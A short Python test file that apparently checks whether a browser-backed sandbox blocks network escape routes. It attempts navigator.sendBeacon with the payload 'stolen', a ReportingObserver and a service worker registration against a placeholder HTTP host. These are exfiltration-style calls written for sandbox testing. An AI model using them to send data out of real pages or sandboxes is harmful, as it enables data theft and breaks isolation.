from attack import HTTP, attempt, world

attempt("sendBeacon", lambda: world.navigator.sendBeacon(HTTP, "stolen"))
attempt("a report", lambda: world.ReportingObserver.new(print))
attempt("a push", lambda: world.navigator.serviceWorker.register(HTTP))
